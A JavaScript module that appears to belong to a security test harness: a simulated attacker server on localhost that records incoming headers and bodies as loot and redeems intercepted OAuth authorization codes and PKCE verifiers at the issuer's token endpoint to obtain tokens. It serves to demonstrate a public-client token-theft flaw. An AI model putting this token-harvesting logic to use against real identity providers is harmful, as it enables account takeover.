// The attacker's own server. It answers everybody, remembers all that reaches it, and sends back the headers it was sent.
// Below /careless/ it plays an API of the app's that has this fault: what comes there is no loot yet.

import http from "node:http";
import {
  corsHeaders,
  isPreflight,
  json,
  listen,
  preflight,
  readBody,
  send,
  stop,
} from "../provider/http.mjs";

export const AGENT = "attacker";

/** Gives `{ origin, loot, close }`; the provider is asked for keys and tokens, as an attacker would. */
export async function startAttacker(issuer) {
  const attacker = { loot: [], issuer };
  const server = http.createServer(async (req, res) => {
    if (isPreflight(req)) return send(res, preflight(req, "*"));
    const cors = corsHeaders(req, "*");
    const body = (await readBody(req)).toString();
    const { pathname } = new URL(req.url, "http://localhost");
    if (!pathname.startsWith("/careless/")) {
      attacker.loot.push(`${req.url}\n${JSON.stringify(req.headers)}\n${body}`);
    }
    if (pathname === "/keys") {
      const keys = await fetch(`${attacker.issuer}/jwks`);
      return send(res, json(200, await keys.json(), cors));
    }
    if (pathname === "/token") {
      const answer = await redeem(attacker, body);
      return send(res, json(200, answer, cors));
    }
    send(res, json(200, { headers: req.headers }, cors));
  });
  const port = await listen(server);
  attacker.origin = `http://localhost:${port}`;
  attacker.close = () => stop(server);
  return attacker;
}

/** Whoever has a code and its verifier has the tokens: the client has no secret. */
async function redeem({ issuer, loot }, body) {
  const headers = { "content-type": "application/x-www-form-urlencoded", "user-agent": AGENT };
  const answer = await (await fetch(`${issuer}/token`, { method: "POST", headers, body })).json();
  loot.push(JSON.stringify(answer));
  return answer;
}
